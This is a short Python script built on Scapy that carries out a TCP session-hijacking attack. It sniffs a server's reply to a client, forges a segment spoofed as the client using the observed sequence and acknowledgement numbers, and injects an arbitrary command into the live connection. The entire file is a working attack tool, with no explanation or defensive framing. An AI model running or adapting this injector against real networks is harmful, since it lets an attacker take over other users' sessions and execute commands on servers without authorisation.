#!/usr/bin/env python3
# Says a line in the middle of a connection between two others.
from scapy.all import *
import sys

client, server, port, command = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
done = False


def hijack(pkt):
    global done
    # The server's last segment says which octet it expects next.
    ip = IP(src=client, dst=server)
    tcp = TCP(sport=pkt[TCP].dport, dport=port, flags="PA", seq=pkt[TCP].ack, ack=pkt[TCP].seq + len(pkt[TCP].payload))
    segment = ip/tcp/Raw(load=command + "\n")
    segment.show()
    send(segment, verbose=0)
    done = True


print("[*] waiting for a segment of the session", flush=True)
sniff(filter=f"tcp and src host {server} and src port {port} and dst host {client}",
      iface="eth0", prn=hijack, stop_filter=lambda _: done, timeout=20)
print("[+] injected" if done else "[-] nothing heard")
